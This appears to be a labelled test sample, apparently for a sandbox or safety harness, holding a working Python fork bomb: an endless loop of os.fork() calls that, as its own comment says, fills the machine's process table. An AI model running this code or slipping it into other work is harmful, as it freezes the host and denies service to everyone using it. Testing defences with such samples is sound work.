# tries: forks for ever, until the machine can start no other process
# in: E1
# honest: 0
# stock: no (it would fill the machine's process table)
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
